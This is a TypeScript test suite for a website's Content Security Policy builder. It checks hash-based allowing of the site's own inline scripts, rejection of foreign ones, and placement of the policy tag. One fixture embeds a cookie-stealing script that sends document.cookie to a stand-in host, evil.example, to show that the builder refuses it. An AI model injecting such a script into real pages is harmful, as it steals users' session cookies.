import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { inlineScripts, policyFor, withPolicy } from '../../src/build/csp';
import { COPY_LINK_SCRIPT, THEME_SCRIPT } from '../../src/lib/inline-scripts';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const page = (head: string, body = '') => `<!doctype html><html><head>${head}</head><body>${body}</body></html>`;
const scriptSrc = (policy: string) => policy.split('; ').find((d) => d.startsWith('script-src'))!;

describe('the content security policy', () => {
  it('allows the site’s own inline scripts on the page by their hashes, never by unsafe-inline', () => {
    const policy = policyFor(page(`<script>${THEME_SCRIPT}</script>`, `<script>${COPY_LINK_SCRIPT}</script>`), 'guides/why-lift/index.html');
    expect(scriptSrc(policy)).toBe(`script-src 'self' 'wasm-unsafe-eval' ${sha(THEME_SCRIPT)} ${sha(COPY_LINK_SCRIPT)}`);
  });

  it('allows only the inline scripts a page has', () => {
    expect(scriptSrc(policyFor(page(`<script>${THEME_SCRIPT}</script>`), 'index.html'))).toBe(`script-src 'self' 'wasm-unsafe-eval' ${sha(THEME_SCRIPT)}`);
  });

  it('refuses an inline script the site does not write, naming the page and the script', () => {
    const html = page(`<script>${THEME_SCRIPT}</script>`, '<p>Squat</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>');
    expect(() => policyFor(html, 'exercises/goblet-squat/index.html')).toThrow(
      'exercises/goblet-squat/index.html: an inline script the site does not write: <script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    );
    expect(() => policyFor(page('<script type="module">a()</script>'), 'x.html')).toThrow('x.html: an inline script');
  });

  it('leaves out external scripts and data blocks, which need no hash', () => {
    const html = page('<script src="/x.js"></script><script type="application/ld+json">{"a":1}</script><script type="application/json">[]</script>');
    expect(inlineScripts(html)).toEqual([]);
  });

  it('names no origin but the site itself', () => {
    const policy = policyFor(page(`<script>${THEME_SCRIPT}</script>`), 'index.html');
    expect(policy).not.toMatch(/https?:|\*/);
    expect(policy).toContain("default-src 'self'");
    expect(policy).toContain("object-src 'none'");
  });

  it('goes first in <head> and replaces an earlier policy instead of adding a second', () => {
    const once = withPolicy(page(`<title>t</title><script>${THEME_SCRIPT}</script>`), 'index.html');
    expect(once).toMatch(/^<!doctype html><html><head><meta http-equiv="content-security-policy"/);
    const twice = withPolicy(once, 'index.html');
    expect(twice.match(/content-security-policy/g)).toHaveLength(1);
    expect(twice).toBe(once);
  });
});
